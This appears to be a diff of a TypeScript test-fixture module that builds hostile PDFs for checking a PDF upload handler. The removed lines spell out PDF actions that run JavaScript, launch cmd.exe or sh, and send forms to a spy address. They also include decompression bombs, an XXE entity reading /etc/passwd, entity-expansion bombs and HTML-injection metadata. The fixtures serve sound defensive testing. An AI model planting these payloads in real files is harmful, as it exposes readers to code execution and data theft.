@@ -1,208 +1,12 @@
-import { deflateSync } from 'node:zlib'
 import fc from 'fast-check'
-import { onePage, pdfOf, streamOf } from './pdf-by-hand.ts'
+import { actingPdfs } from './acting-pdfs.ts'
+import type { HostileFile } from './hostile-file.ts'
+import { pdfBombs } from './pdf-bombs.ts'
+import { onePage } from './pdf-by-hand.ts'
+import { pdfsOfElsewhere } from './pdfs-of-elsewhere.ts'
 
-/** A file that somebody sends to do harm, or that is broken; and what must not be taken: refused whatever else is so. */
-export interface HostileFile {
-  name: string
-  bytes: Buffer
-  /** Must be refused; otherwise it may be stored, and then does nothing. */
-  refused?: boolean
-}
-
-const MB = 1024 * 1024
-const SCRIPT = "app.alert('x');this.submitForm('URL');app.launchURL('URL')"
-
-/** Actions that a reader may run by itself: scripts, programs, forms sent away, files and addresses opened. */
-function actions(spy: string): Record<string, string> {
-  return {
-    'a script': `<</S/JavaScript/JS(${SCRIPT.replaceAll('URL', spy)})>>`,
-    'a script in hexadecimal': `<</S/JavaScript/JS<${Buffer.from(SCRIPT.replaceAll('URL', spy)).toString('hex')}>>>`,
-    'a script with a name in escapes': `<</S/#4a#61#76#61Script/JS(${SCRIPT.replaceAll('URL', spy)})>>`,
-    'a program of Windows': '<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc.exe)>>>>',
-    'a program of Unix': '<</S/Launch/F(/bin/sh)/Unix(sh -c id)>>',
-    'a form sent away': `<</S/SubmitForm/F(${spy})/Flags 4>>`,
-    'data taken in': `<</S/ImportData/F(${spy}/data.fdf)>>`,
-    'an address': `<</S/URI/URI(${spy})>>`,
-    'an address of a script': '<</S/URI/URI(javascript:alert\\(1\\))>>',
-    'a file elsewhere': `<</S/GoToR/F<</FS/URL/F(${spy}/a.pdf)>>/D[0/Fit]>>`,
-    'a file on a share': '<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\a.pdf)/D[0/Fit]>>',
-    'an embedded file': '<</S/GoToE/T<</R/C/N(evil)>>/D[0/Fit]>>',
-    'a film': `<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(${spy}/film.swf)>>>>>>>>`,
-    'a chain of actions': `<</S/URI/URI(${spy})/Next[6 0 R 6 0 R]>>`,
-  }
-}
-
-/** Where an action hangs. */
-const hooks: Readonly<Record<string, { catalogue?: string; page?: string }>> = {
-  'when opened': { catalogue: '/OpenAction 6 0 R' },
-  'when closed or printed': { catalogue: '/AA<</WC 6 0 R/WP 6 0 R/DP 6 0 R>>' },
-  'when a page is shown': { page: '/AA<</O 6 0 R/C 6 0 R>>' },
-  'by its name': { catalogue: '/Names<</JavaScript<</Names[(a)6 0 R]>>>>' },
-  'in a note': { page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 6 0 R>>]' },
-  'in a field': {
-    catalogue: '/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K 6 0 R/C 6 0 R>>/Rect[0 0 9 9]/Subtype/Widget>>]>>',
-  },
-}
-
-function acting(spy: string): HostileFile[] {
-  return Object.entries(actions(spy)).flatMap(([action, body]) =>
-    Object.entries(hooks).map(([hook, where]) => ({
-      name: `${action}, ${hook}`,
-      bytes: onePage({ ...where, more: [body] }),
-    })),
-  )
-}
-
-const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * MB))
-const nested = (text: string, count: number) => text.repeat(count)
-
-/** Files that unpack, point or nest without end. */
-function bombs(): HostileFile[] {
-  const twice = deflateSync(zeros(400))
-  return [
-    { name: 'content of 300 MB', bytes: onePage({ content: streamOf(zeros(300), '/Filter/FlateDecode') }) },
-    {
-      name: 'content packed twice',
-      bytes: onePage({ content: streamOf(twice, '/Filter[/FlateDecode/FlateDecode]') }),
-    },
-    {
-      name: 'objects in a stream of 300 MB',
-      bytes: onePage({ more: [streamOf(zeros(300), '/Type/ObjStm/N 9999999/First 9/Filter/FlateDecode')] }),
-    },
-    {
-      name: 'a table of places of 300 MB',
-      bytes: onePage({
-        more: [streamOf(zeros(300), '/Type/XRef/W[1 9 9]/Size 99999999/Filter/FlateDecode')],
-      }),
-    },
-    {
-      name: 'a picture of 60,000 by 60,000',
-      bytes: onePage({
-        page: '/Thumb 6 0 R',
-        more: [
-          streamOf(
-            zeros(1),
-            '/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode',
-          ),
-        ],
-      }),
-    },
-    { name: 'lists within lists', bytes: onePage({ catalogue: `/X ${nested('[', 100_000)}` }) },
-    {
-      name: 'dictionaries within dictionaries',
-      bytes: onePage({ catalogue: `/X ${nested('<</X ', 50_000)}` }),
-    },
-    {
-      name: 'whole lists within lists',
-      bytes: onePage({ catalogue: `/X ${nested('[', 20_000)}${nested(']', 20_000)}` }),
-    },
-    {
-      name: 'operators without end',
-      bytes: onePage({ content: streamOf(Buffer.from(nested('q ', 2 * MB))) }),
-    },
-    {
-      name: 'paths without end',
-      bytes: onePage({ content: streamOf(Buffer.from(nested('0 0 m 9 9 l S ', MB / 4))) }),
-    },
-    {
-      name: 'a form that draws itself',
-      bytes: onePage({
-        page: '/Resources<</XObject<</X 6 0 R>>>>',
-        content: streamOf(Buffer.from('/X Do')),
-        more: [
-          streamOf(
-            Buffer.from('/X Do '.repeat(50)),
-            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>',
-          ),
-        ],
-      }),
-    },
-    {
-      name: 'ten thousand names for one page',
-      bytes: pdfOf([
-        '<</Type/Catalog/Pages 2 0 R>>',
-        `<</Type/Pages/Kids[${nested('3 0 R ', 10_000)}]/Count 10000>>`,
-        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
-      ]),
-    },
-    {
-      name: 'pages that are their own parents',
-      refused: true,
-      bytes: pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>']),
-    },
-    {
-      name: 'pages in a ring',
-      refused: true,
-      bytes: pdfOf([
-        '<</Type/Catalog/Pages 2 0 R>>',
-        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
-        '<</Type/Pages/Kids[2 0 R]/Count 1>>',
-      ]),
-    },
-    {
-      name: 'a length that points to itself',
-      bytes: pdfOf([
-        '<</Type/Catalog/Pages 2 0 R>>',
-        '<</Type/Pages/Kids[]/Count 0>>',
-        '<</Length 3 0 R>>\nstream\nx\nendstream',
-      ]),
-      refused: true,
-    },
-    { name: 'a table of places before itself', bytes: onePage({ trailer: '/Prev 9' }) },
-    {
-      name: 'numbers beyond every measure',
-      bytes: onePage({ page: `/MediaBox[0 0 1e308 ${nested('9', 400)}]/Rotate 99999999999999999999` }),
-    },
-    {
-      name: 'a font with a script for a matrix',
-      bytes: onePage({ more: ['<</Type/Font/Subtype/Type1/FontMatrix[1 2 3 4 5 (0\\); alert\\(1\\)//)]>>'] }),
-    },
-    {
-      name: 'a form in XML that reads files',
-      bytes: onePage({
-        catalogue: '/AcroForm<</XFA 6 0 R/Fields[]>>',
-        more: [
-          streamOf(
-            Buffer.from(
-              '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
-            ),
-          ),
-        ],
-      }),
-    },
-    {
-      name: 'a description in XML without end',
-      bytes: onePage({
-        catalogue: '/Metadata 6 0 R',
-        more: [
-          streamOf(
-            Buffer.from(
-              `<!DOCTYPE x [${Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${nested(`&e${at};`, 9)}">`).join('')}]><x>&e9;</x>`,
-            ),
-            '/Type/Metadata/Subtype/XML',
-          ),
-        ],
-      }),
-    },
-    {
-      name: 'a title that is a page of HTML',
-      bytes: onePage({
-        more: ['<</Title(<img src=x onerror=alert\\(1\\)>)/Author(\\r\\nBcc: all@conference.example)>>'],
-        trailer: '/Info 6 0 R',
-      }),
-    },
-    {
-      name: 'the file that scanners are tried with',
-      bytes: onePage({
-        catalogue: '/Names<</EmbeddedFiles<</Names[(eicar.com)<</F(eicar.com)/EF<</F 6 0 R>>>>]>>>>',
-        more: [
-          streamOf(Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')),
-        ],
-      }),
-    },
-  ]
-}
+/** What every PDF begins with. */
+const SIGNATURE = '%PDF-'.length
 
 /** Other kinds of files under a PDF's name, and files that are two kinds at once. */
 function disguised(): HostileFile[] {
@@ -231,22 +35,24 @@ function disguised(): HostileFile[] {
     ...Object.entries(others).map(([name, text]) => ({
       name,
       bytes: Buffer.from(text, 'latin1'),
-      refused: true,
+      must: text.startsWith('%PDF') ? ('broken_pdf' as const) : ('not_a_pdf' as const),
     })),
     ...Object.entries(fronts).map(([name, text]) => ({
       name: `a PDF that begins as ${name}`,
       bytes: Buffer.concat([Buffer.from(text, 'latin1'), pdf]),
+      // Readers look for the beginning in the first kilobyte.
+      must: 'kept' as const,
     })),
     ...[1, 2, 4, 5, 6].map((revision) => ({
       name: `encrypted, version ${revision}`,
-      refused: true,
+      must: 'encrypted_pdf' as const,
       bytes: onePage({
         trailer: `/Encrypt<</Filter/Standard/V ${revision}/R ${revision}/O(x)/U(x)/P -1/Length 128>>/ID[(a)(b)]`,
       }),
     })),
     {
       name: 'encrypted by a key that is not there',
-      refused: true,
+      must: 'encrypted_pdf',
       bytes: onePage({ trailer: '/Encrypt 99 0 R' }),
     },
   ]
@@ -270,17 +76,18 @@ function broken(seed: number, whole: Buffer): HostileFile[] {
   const truncated = cuts.map((at) => ({
     name: `cut off at ${at}`,
     bytes: whole.subarray(0, at),
-    refused: true,
+    // Of the first bytes alone nobody can tell what they were to be.
+    must: at < SIGNATURE ? ('not_a_pdf' as const) : ('broken_pdf' as const),
   }))
   const changed = changes.map((places, at) => {
     const bytes = Buffer.from(whole)
     for (const [place, value] of places) bytes[place] = value
-    return { name: `changed, ${at}`, bytes }
+    return { name: `changed, ${at}`, bytes, must: ['kept', 'broken_pdf'] as const }
   })
   return [...truncated, ...changed]
 }
 
 /** All of them; `spy` is an address that must never be asked, `whole` a PDF that is well. */
 export function hostilePdfs(seed: number, spy: string, whole: Buffer): HostileFile[] {
-  return [...acting(spy), ...bombs(), ...disguised(), ...broken(seed, whole)]
+  return [...actingPdfs(spy), ...pdfsOfElsewhere(spy), ...pdfBombs(), ...disguised(), ...broken(seed, whole)]
 }
